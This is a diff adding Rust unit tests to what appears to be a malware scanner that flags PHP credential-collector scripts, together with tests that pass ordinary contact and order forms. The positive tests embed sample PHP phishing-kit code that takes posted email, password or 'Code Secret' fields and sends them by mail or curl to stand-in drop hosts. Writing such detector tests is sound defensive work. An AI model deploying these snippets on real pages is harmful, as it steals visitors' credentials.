@@ -797,3 +797,29 @@ fn the_file_name_used_as_text_is_quiet() {
     let src = "<?php $slug = basename(__FILE__, '.php'); $dir = dirname(__FILE__); $cb($slug); echo $dir;";
     assert!(found(src).is_empty());
 }
+
+#[test]
+fn a_collector_of_tersely_labelled_or_coded_fields_is_found() {
+    // A secret field under a label of two letters, mailed.
+    let terse = "<?php $m = \"ID: \" . $_POST['email'] . \"\\n\"; $m .= \"Pd: \" . $_POST['password'] . \"\\n\";\n\
+                 mail('drop@example.invalid', 'x', $m); header('Location: https://example.com');";
+    assert!(found(terse).contains(&Why::CredentialCollector), "{:?}", found(terse));
+    // Coded field names, the labels in French, posted with curl only.
+    let coded = "<?php $m = \"Identifiant : \" . $_POST['AK12'] . \"\\n\"; $m .= \"Code Secret : \" . $_POST['AK13'];\n\
+                 $c = curl_init('https://example.invalid/x'); curl_setopt($c, CURLOPT_POSTFIELDS, $m); curl_exec($c);";
+    assert!(found(coded).contains(&Why::CredentialCollector), "{:?}", found(coded));
+    let fixture = include_str!("../../../tests/fixtures/sweep/malicious/collector_coded_fields_to_chat.php");
+    assert!(found(fixture).contains(&Why::CredentialCollector), "{:?}", found(fixture));
+}
+
+#[test]
+fn a_contact_form_mailing_coded_or_ordinary_fields_is_not_a_collector() {
+    // Coded fields with labels that name no secret, mailed to the site's owner.
+    let contact = "<?php $m = \"Name: \" . $_POST['f1'] . \"\\n\"; $m .= \"Phone: \" . $_POST['f2'] . \"\\n\";\n\
+                   $m .= \"Topic 3: \" . $_POST['q12']; mail('owner@example.com', 'Contact', $m);";
+    assert!(!found(contact).contains(&Why::CredentialCollector), "{:?}", found(contact));
+    // A short label before a field that is not a secret.
+    let order =
+        "<?php $m = \"Qty: \" . $_POST['qty'] . \" Ref: \" . $_POST['ref']; mail('shop@example.com', 'Order', $m);";
+    assert!(!found(order).contains(&Why::CredentialCollector), "{:?}", found(order));
+}
